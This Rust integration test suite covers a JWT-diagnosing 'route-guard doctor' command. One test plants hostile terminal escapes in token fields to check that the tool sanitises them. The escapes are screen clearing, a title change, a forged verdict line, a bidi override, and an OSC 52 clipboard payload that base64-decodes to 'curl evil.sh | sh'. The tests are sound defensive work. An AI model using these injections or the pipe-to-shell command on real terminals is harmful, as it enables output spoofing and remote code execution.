//! `route-guard doctor` as a user runs it: the built binary, configured through the
//! environment, the token on standard input or in a file; exit codes, the `--json` shape, and
//! the token never in its output.
#![cfg(feature = "doctor")]

use std::io::Write;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use route_guard::testing::{TestIssuer, TEST_AUDIENCE};
use serde_json::Value;

/// Runs the doctor with exactly `vars` in its environment, in an empty directory (no `.env`),
/// `stdin` on standard input. Blocking: the issuer runs on the test's runtime threads.
fn doctor(vars: &[(&str, &str)], args: &[&str], stdin: &str) -> Output {
    let dir = std::env::temp_dir().join(format!("route-guard-doctor-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let mut child = Command::new(env!("CARGO_BIN_EXE_route-guard"))
        .env_clear()
        .envs(vars.iter().copied())
        .current_dir(&dir)
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the route-guard binary is built with --features doctor");
    let mut input = child.stdin.take().expect("stdin");
    // A usage error exits before reading standard input: the pipe may be closed already.
    let _ = input.write_all(stdin.as_bytes());
    drop(input);
    child.wait_with_output().expect("the doctor exits")
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

async fn run(vars: Vec<(String, String)>, args: Vec<String>, stdin: String) -> Output {
    tokio::task::spawn_blocking(move || {
        let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        doctor(&vars, &args, &stdin)
    })
    .await
    .expect("joined")
}

fn config(issuer: &TestIssuer) -> Vec<(String, String)> {
    vec![
        ("AUTH0_ISSUER_BASE_URL".into(), issuer.issuer().to_owned()),
        ("AUTH0_AUDIENCE".into(), TEST_AUDIENCE.into()),
    ]
}

fn strings(args: &[&str]) -> Vec<String> {
    args.iter().map(|a| (*a).to_owned()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_accepted_token_exits_0_and_is_never_printed() {
    let issuer = TestIssuer::start().await.expect("issuer");
    let token = issuer.token().scopes("read:messages").sign();
    let output = run(
        config(&issuer),
        strings(&["doctor", "--scopes", "read:messages"]),
        format!("{token}\n"),
    )
    .await;
    let all = text(&output);
    assert_eq!(output.status.code(), Some(0), "{all}");
    assert!(all.contains("the API accepts this token"), "{all}");
    assert!(all.contains("ok   signature"), "{all}");
    assert!(!all.contains(&token), "the token is never printed");
    for part in token.split('.') {
        assert!(!all.contains(part), "no segment of the token is printed");
    }
    // Piped: no terminal colours.
    assert!(!all.contains('\x1b'), "{all}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_token_exits_1_with_its_cause_and_the_servers_answer() {
    let issuer = TestIssuer::start().await.expect("issuer");
    let expired = issuer
        .token()
        .expired_for(Duration::from_secs(2 * 3600))
        .sign();
    let output = run(
        config(&issuer),
        strings(&["doctor"]),
        format!("Bearer {expired}"),
    )
    .await;
    let all = text(&output);
    assert_eq!(output.status.code(), Some(1), "{all}");
    assert!(all.contains("FAIL exp"), "{all}");
    assert!(
        all.contains("cause: the token expired 2 h 0 min ago"),
        "{all}"
    );
    assert!(
        all.contains("verdict: the API refuses this token: 401"),
        "{all}"
    );
    assert!(all.contains("error=\"invalid_token\""), "{all}");
    assert!(!all.contains(&expired));

    // A route requirement: 403 naming the scope to ask for.
    let reader = issuer.token().scopes("read:messages").sign();
    let path = std::env::temp_dir().join(format!("route-guard-token-{}", std::process::id()));
    std::fs::write(&path, &reader).expect("token file");
    let output = run(
        config(&issuer),
        strings(&[
            "doctor",
            "--token-file",
            path.to_str().expect("utf-8 path"),
            "--scopes",
            "read:messages write:messages",
            "--color",
            "always",
        ]),
        String::new(),
    )
    .await;
    let _ = std::fs::remove_file(&path);
    let all = text(&output);
    assert_eq!(output.status.code(), Some(1), "{all}");
    assert!(all.contains("refuses this token: 403"), "{all}");
    assert!(all.contains("scope=write:messages"), "{all}");
    assert!(all.contains('\x1b'), "--color always colours: {all}");
    assert!(!all.contains(&reader));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_has_every_check_the_causes_and_the_verdict() {
    let issuer = TestIssuer::start().await.expect("issuer");
    let token = issuer.token().audience("https://other.example.com").sign();
    let output = run(
        config(&issuer),
        strings(&["doctor", "--json"]),
        token.clone(),
    )
    .await;
    assert_eq!(output.status.code(), Some(1), "{}", text(&output));
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(!stdout.contains(&token));
    let report: Value = serde_json::from_str(&stdout).expect("JSON on stdout");
    assert_eq!(report["token_sha256"].as_str().map(str::len), Some(16));
    let checks = report["checks"].as_array().expect("checks");
    let aud = checks
        .iter()
        .find(|c| c["check"] == "aud")
        .expect("the aud check");
    assert_eq!(aud["outcome"], "failed");
    assert_eq!(aud["actual"], "https://other.example.com");
    assert_eq!(aud["trusted"], true);
    for check in checks {
        assert!(
            ["passed", "failed", "not_reached"].contains(&check["outcome"].as_str().unwrap_or("")),
            "{check}"
        );
    }
    assert_eq!(report["causes"][0]["id"], "wrong_audience");
    assert!(report["causes"][0]["fix"].is_string());
    assert_eq!(report["verdict"]["status"], 401);
    assert_eq!(report["verdict"]["accepted"], false);
    assert_eq!(report["verdict"]["body"]["error"], "invalid_token");
    assert!(report["verdict"]["www_authenticate"]
        .as_str()
        .is_some_and(|c| c.starts_with("Bearer realm=\"api\"")));
    assert_eq!(report["key"]["kty"], "RSA");
    assert!(report["times"].is_array());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn usage_and_configuration_errors_exit_2() {
    let issuer = TestIssuer::start().await.expect("issuer");
    let token = issuer.token().sign();
    // No configuration: the typed error names what to set.
    let output = run(Vec::new(), strings(&["doctor"]), token.clone()).await;
    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
    assert!(text(&output).contains("AUTH0_"), "{}", text(&output));
    // The token on the command line is refused.
    let output = run(
        config(&issuer),
        strings(&["doctor", "--token", &token]),
        String::new(),
    )
    .await;
    assert_eq!(output.status.code(), Some(2));
    assert!(text(&output).contains("never from the command line"));
    assert!(!text(&output).contains(&token));
    // No token, an unknown option, an unknown command, a scope that can never be granted.
    for (args, stdin) in [
        (vec!["doctor"], ""),
        (vec!["doctor", "--verbose"], token.as_str()),
        (vec!["inspect"], token.as_str()),
        (vec!["doctor", "--color", "sometimes"], token.as_str()),
        (vec![], token.as_str()),
    ] {
        let output = run(config(&issuer), strings(&args), stdin.to_owned()).await;
        assert_eq!(output.status.code(), Some(2), "{args:?}: {}", text(&output));
        assert!(text(&output).contains("usage: route-guard doctor"));
    }
}

/// Terminal escapes a hostile token carries in every field the doctor shows: clear the screen,
/// set the window title, write the clipboard (OSC 52), a CR/LF that forges a verdict line, a
/// bidirectional override, and a value far longer than a line.
const CLEAR: &str = "\x1b[2J\x1b[H";
const TITLE: &str = "\x1b]0;owned\x07";
const CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
const FORGED: &str = "\r\nverdict: the API accepts this token (200)\r\n";

fn hostile(field: &str) -> String {
    format!("{field}{CLEAR}{TITLE}{CLIPBOARD}{FORGED}\u{202e}\u{9b}31m")
}

/// Every line of `text` output is free of control characters (but the newline), and no line
/// is the forged verdict.
fn assert_terminal_safe(all: &str) {
    for (n, line) in all.lines().enumerate() {
        assert!(
            !line.chars().any(|c| c.is_control() || c == '\u{202e}'),
            "line {n} carries a control character: {line:?}"
        );
        assert!(
            !line.starts_with("verdict: the API accepts"),
            "a forged line: {all}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_text_in_a_token_never_reaches_the_terminal() {
    let issuer = TestIssuer::start().await.expect("issuer");
    let long = "x".repeat(5000);
    let tokens = [
        // Header members: kid (unknown, so the key step names it), typ, alg.
        issuer.token().header("kid", hostile("kid")).sign(),
        issuer.token().header("typ", hostile("typ")).sign(),
        issuer.token().header("alg", hostile("alg")).sign(),
        // Claims: iss, aud, a DPoP binding, scopes and permissions, a long value.
        issuer
            .token()
            .iss(&hostile("https://evil.example.com/"))
            .sign(),
        issuer.token().audience(&hostile("https://api")).sign(),
        issuer
            .token()
            .claim("cnf", serde_json::json!({ "jkt": hostile("jkt") }))
            .sign(),
        issuer.token().scopes(&hostile("read:messages")).sign(),
        issuer
            .token()
            .claim("permissions", serde_json::json!([hostile("perm")]))
            .sign(),
        issuer.token().audience(&format!("{long}{CLEAR}")).sign(),
    ];
    for token in &tokens {
        let output = run(
            config(&issuer),
            strings(&["doctor", "--scopes", "write:messages", "--color", "never"]),
            token.clone(),
        )
        .await;
        let all = text(&output);
        assert_eq!(output.status.code(), Some(1), "{all}");
        assert_terminal_safe(&all);
        assert!(all.contains("verdict: the API refuses this token"), "{all}");
        assert!(!all.contains(&long), "a long value is cut: {all}");
        // Coloured output carries only the doctor's own escapes (SGR colour codes).
        let coloured = run(
            config(&issuer),
            strings(&["doctor", "--color", "always"]),
            token.clone(),
        )
        .await;
        let coloured = text(&coloured);
        for escape in [CLEAR, TITLE, CLIPBOARD, "\x1b]"] {
            assert!(!coloured.contains(escape), "{coloured:?}");
        }
        assert!(!coloured.contains('\r'), "{coloured:?}");
    }
    // The escaped form is shown, so the user sees what the token holds.
    let output = run(config(&issuer), strings(&["doctor"]), tokens[3].clone()).await;
    assert!(
        text(&output).contains("https://evil.example.com/\\u{1b}[2J"),
        "{}",
        text(&output)
    );
    // --json stays exact: the value as the token holds it, escaped only by JSON.
    let output = run(
        config(&issuer),
        strings(&["doctor", "--json"]),
        tokens[3].clone(),
    )
    .await;
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON on standard output");
    let iss = report["checks"]
        .as_array()
        .and_then(|checks| checks.iter().find(|c| c["check"] == "iss"))
        .expect("the iss check");
    assert_eq!(iss["actual"], hostile("https://evil.example.com/"));
    assert!(!String::from_utf8_lossy(&output.stdout).contains('\x1b'));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_issuer_the_key_step_never_checked_is_not_shown_as_ok() {
    let issuer = TestIssuer::start().await.expect("issuer");
    // An algorithm the API does not accept: the key step is never reached.
    let foreign = issuer
        .token()
        .iss("https://evil.example.com/")
        .header("alg", "HS512")
        .sign();
    let output = run(config(&issuer), strings(&["doctor", "--json"]), foreign).await;
    let report: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    let outcome = |name: &str| {
        report["checks"]
            .as_array()
            .and_then(|checks| checks.iter().find(|c| c["check"] == name))
            .map(|c| c["outcome"].clone())
            .unwrap_or_default()
    };
    // The doctor is a fresh process: the issuer is not discovered yet, and no key step ran, so
    // nothing has checked `iss`.
    assert_eq!(outcome("key"), "not_reached", "{report}");
    assert_eq!(outcome("iss"), "not_reached", "{report}");
    // The right issuer, no key step: not checked, rather than "ok".
    let own = issuer.token().header("alg", "HS512").sign();
    let output = run(config(&issuer), strings(&["doctor"]), own).await;
    let all = text(&output);
    let line = all
        .lines()
        .find(|l| l.contains(" iss "))
        .unwrap_or_default()
        .to_owned();
    assert!(line.contains("--") && line.contains("not reached"), "{all}");
}
